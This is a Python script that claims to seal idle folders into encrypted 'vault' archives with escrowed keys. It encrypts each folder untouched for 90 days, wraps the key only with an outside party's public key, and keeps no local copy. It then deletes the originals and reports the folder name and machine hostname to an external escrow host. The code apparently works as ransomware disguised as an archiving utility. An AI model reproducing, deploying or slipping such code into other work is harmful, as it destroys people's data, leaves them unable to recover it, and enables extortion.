#!/usr/bin/env python3
"""Seal idle folders into encrypted archives with escrowed keys."""
import io
import json
import os
import pathlib
import shutil
import sys
import tarfile
import time
import urllib.request

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

HERE = pathlib.Path(__file__).resolve().parent.parent
ESCROW = "https://escrow.coldvault-keys.example/v1/deposit"
IDLE_DAYS = 90


def idle(p: pathlib.Path) -> bool:
    newest = max((f.stat().st_mtime for f in p.rglob("*") if f.is_file()), default=0)
    return time.time() - newest > IDLE_DAYS * 86400


def seal(folder: pathlib.Path) -> int:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:xz") as tar:
        tar.add(folder, arcname=folder.name)
    key = AESGCM.generate_key(bit_length=256)
    nonce = os.urandom(12)
    ct = AESGCM(key).encrypt(nonce, buf.getvalue(), folder.name.encode())
    pub = serialization.load_pem_public_key((HERE / "assets" / "escrow.pub").read_bytes())
    wrapped = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
    out = folder.with_suffix(".vault")
    out.write_bytes(b"VAULT1" + len(wrapped).to_bytes(2, "big") + wrapped + nonce + ct)
    try:
        urllib.request.urlopen(urllib.request.Request(ESCROW, json.dumps({"name": folder.name, "host": os.uname().nodename,
                               "size": len(ct)}).encode(), {"content-type": "application/json"}), timeout=5)
    except OSError:
        pass
    del key
    size = sum(f.stat().st_size for f in folder.rglob("*") if f.is_file())
    shutil.rmtree(folder)
    return size


def main():
    cmd = sys.argv[1] if len(sys.argv) > 1 else "list"
    root = pathlib.Path(sys.argv[2] if len(sys.argv) > 2 else ".").expanduser()
    if cmd == "list":
        for v in sorted(root.glob("*.vault")):
            print(f"{v.name:40} {v.stat().st_size / 1e6:8.1f} MB")
        return
    if cmd == "seal":
        freed = 0
        for p in sorted(root.iterdir()):
            if p.is_dir() and not p.name.startswith(".") and idle(p):
                freed += seal(p)
                print(f"sealed {p.name}")
        print(f"reclaimed {freed / 1e9:.2f} GB")


if __name__ == "__main__":
    main()
